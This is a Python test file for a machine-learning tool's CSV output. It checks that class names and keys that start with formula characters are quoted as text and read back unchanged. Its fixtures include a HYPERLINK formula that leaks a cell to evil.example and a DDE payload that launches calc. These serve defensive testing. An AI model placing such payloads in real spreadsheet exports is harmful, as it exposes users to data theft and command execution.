"""CSV cells a spreadsheet would run as formulas are written as text (audit s16 S12): a class
named '=HYPERLINK(...)' became a live formula in every `prediction` cell of predictions.csv.
Text cells and headers starting with = + - @ tab or CR get OWASP's leading quote; numbers
(-0.5, a class named -1) are written as they are; trainwise reads its own files back whole."""

from __future__ import annotations

import csv
from types import SimpleNamespace

import numpy as np
import pandas as pd
import torch

import trainwise.prediction
from trainwise import cli
from trainwise.reporting.precision_recall import two_class_predictions
from trainwise.spreadsheet import safe_cell, unquoted
from trainwise.stages_labels import _write_csv
from trainwise.train.class_predictions import write_class_predictions
from trainwise.train.label_issues import Suspect
from trainwise.train.regression_predictions import write_predictions

LINK = '=HYPERLINK("http://evil.example/?"&A1,"ok")'


def test_text_starting_a_formula_is_quoted_and_numbers_are_not() -> None:
    cells = [LINK, "+1+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx", "ok", "a=b"]
    assert [safe_cell(c) for c in cells] == [
        "'" + LINK, "'+1+cmd", "'-2+3+cmd|' /C calc'!A0", "'@SUM(1)", "'\tx", "'\rx", "ok", "a=b"]
    assert [safe_cell(c) for c in ("-0.5", "-1", "+3e-2", -0.5)] == ["-0.5", "-1", "+3e-2", -0.5]
    assert [unquoted(safe_cell(c)) for c in cells] == cells
    assert unquoted("'quoted by the user") == "'quoted by the user"


def test_a_lone_sign_is_left_alone_and_unquoted_inverts_safe_cell_exactly() -> None:
    """Review s16 VS7: '+' / '-' labels became "'+" / "'-" (a join on the truth matched
    nothing), and a class literally named "'=x" came back from unquoted as '=x'."""
    assert [safe_cell(c) for c in ("+", "-", "@", "=")] == ["+", "-", "@", "="]
    assert safe_cell("'=x") == "''=x" and safe_cell("''=x") == "'''=x"
    names = ["'=x", "''=x", "=x", "+", "-", "'", "''", "'+", "'-1", "-1", "'ok", "+a", "'\tx"]
    assert [unquoted(safe_cell(c)) for c in names] == names
    for name in names:  # what a spreadsheet sees never starts a formula
        assert not safe_cell(name).startswith(("=", "+a", "\t"))


def test_predictions_csv_writes_class_names_as_text(tmp_path, monkeypatch) -> None:
    table = pd.DataFrame({"prediction": [LINK, "b"], f"probability_{LINK}": [0.75, 0.25],
                          "probability_b": [0.25, 0.75], "margin": [-0.5, 0.5]})
    monkeypatch.setattr(trainwise.prediction, "predict", lambda *args, **kwargs: table)
    out = tmp_path / "p.csv"
    cli._predict_to_csv("RUN", "new.csv", str(out))
    assert out.read_text().splitlines() == [
        'row,prediction,"probability_=HYPERLINK(""http://evil.example/?""&A1,""ok"")",'
        "probability_b,margin",
        '0,"\'=HYPERLINK(""http://evil.example/?""&A1,""ok"")",0.75,0.25,-0.5',
        "1,b,0.25,0.75,0.5"]


def test_test_predictions_quote_names_and_keys_and_read_back_whole(tmp_path) -> None:
    path = tmp_path / "test_predictions.csv"
    names = [LINK, "-1"]  # '-1' reads as a number: no quote, a join on it still matches
    logits = torch.tensor([[2.0, 0.0], [0.0, 2.0], [2.0, 0.0]])
    write_class_predictions(path, np.array([4, 5, 6]), logits, torch.tensor([0, 1, 1]), names,
                            keys={"@store": np.array(["=a", "-7", "b"], dtype=object)})
    written = pd.read_csv(path, dtype=str)
    assert list(written.columns[:4]) == ["row", "'@store", "actual", "predicted"]
    assert written["'@store"].tolist() == ["'=a", "-7", "b"]
    assert written["actual"].tolist() == ["'" + LINK, "-1", "-1"]
    kept = two_class_predictions(path, None, LINK)
    assert kept is not None and kept["actual"].tolist() == [LINK, "-1", "-1"]
    assert kept["predicted"].tolist() == [LINK, "-1", LINK]
    write_predictions(path, None, np.array([-1.5]), np.array([-0.5]),
                      keys={"=k": np.array(["+x"], dtype=object)})
    assert path.read_text().splitlines() == ["row,'=k,actual,predicted,error", ",'+x,-1.5,-0.5,1.0"]


def test_label_issues_csv_quotes_classes_and_ids(tmp_path) -> None:
    ctx = SimpleNamespace(data=SimpleNamespace(row_ids={"=email": None}),
                          run=SimpleNamespace(path=tmp_path))
    suspect = Suspect("test", 3, LINK, "-1", 0.0512, 0.9, ids={"=email": "@x.example"})
    _write_csv(ctx, [suspect])
    with open(tmp_path / "label_issues.csv", encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row == {"part": "test", "source_row_0based": "3", "'=email": "'@x.example",
                   "file": "", "given": "'" + LINK, "suggested": "-1", "p_given": "0.0512",
                   "p_suggested": "0.9000"}
